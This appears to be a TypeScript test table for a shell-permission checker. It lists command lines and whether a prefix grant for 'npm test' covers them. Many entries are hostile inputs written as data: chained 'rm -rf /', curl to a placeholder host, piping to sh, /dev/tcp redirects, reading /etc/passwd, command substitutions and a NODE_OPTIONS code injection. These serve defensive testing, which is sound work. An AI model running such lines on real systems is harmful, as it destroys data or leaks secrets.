// The shell lines a prefix grant is tried on, by the rules' unit test and through real requests.

// Made from the request `npm test` with both its words: "allow `npm test …`".
// true: the grant alone allows the line; false: the line is asked again.
// prettier-ignore
export const NPM_TEST_TABLE: Array<[string, boolean]> = [
  // the prefix itself, and words after it
  ['npm test', true],
  ['npm test -- foo', true],
  ['npm test -- --watch --coverage', true],
  ['npm  test    -- foo', true],
  ['npm test --prefix=../elsewhere', true],
  ['npm test -- foo # a comment', true],
  // quoting: the words the shell reads, not the characters written
  [`'npm' "test" -- foo`, true],
  [`npm test '; rm -rf /'`, true],
  [`npm test "&& curl x"`, true],
  // run-time words after the prefix are words like any other; in it they are not the prefix
  ['npm test -- $HOME/x', true],
  ['npm test -- *.spec.ts', true],
  ['$NPM test', false],
  ['npm $TASK', false],
  ['npm "$T"', false],
  // look-alikes
  ['npm testing', false],
  ['npm tes', false],
  ['npm', false],
  ['npm run test', false],
  ['npm exec test', false],
  ['npx test', false],
  ['NPM test', false],
  ['/usr/bin/npm test', false],
  ['./npm test', false],
  ['npm\\ test', false],
  // compound lines: every part must be covered
  ['npm test && npm test -- foo', true],
  ['npm test; rm -rf /', false],
  ['npm test && rm -rf /', false],
  ['npm test || curl https://x.example', false],
  ['npm test | sh', false],
  ['npm test | tee out.txt', false],
  ['npm test & rm -rf build', false],
  ['npm test\nrm -rf build', false],
  ['cd /tmp && npm test', false],
  ['if true; then npm test; fi', false],
  // redirections: only those that open nothing
  ['npm test > /dev/null', true],
  ['npm test 2>&1', true],
  ['npm test 2>/dev/null', true],
  ['npm test > /etc/x', false],
  ['npm test >> log.txt', false],
  ['npm test &> out.log', false],
  ['npm test 2> err.txt', false],
  ['npm test > "$OUT"', false],
  ['npm test > /dev/tcp/10.0.0.1/80', false],
  ['npm test < /etc/passwd', false],
  ["npm test <<< 'y'", false],
  ['npm test <<EOF\ny\nEOF', false],
  // substitutions
  ['npm test $(curl x)', false],
  ['npm test `curl x`', false],
  ['npm test "$(id)"', false],
  ['npm test <(curl x)', false],
  ['npm test -- $(cat list)', false],
  // assignments and wrappers
  ['X=1 npm test', false],
  ['NODE_OPTIONS=--require=./x.js npm test', false],
  ['env X=1 npm test', false],
  ['env npm test -- foo', true],
  ['time npm test -- foo', true],
  ['sudo npm test', false],
  ['timeout 5 npm test', false],
  ['nohup npm test', false],
  ['echo x | xargs npm test', false],
  ['find . -exec npm test \\;', false],
  // interpreters and builtins that run it as code
  ["bash -c 'npm test'", false],
  ['sh -c "npm test -- foo"', false],
  ['eval npm test', false],
  ['exec npm test', false],
  ['command npm test', false],
];
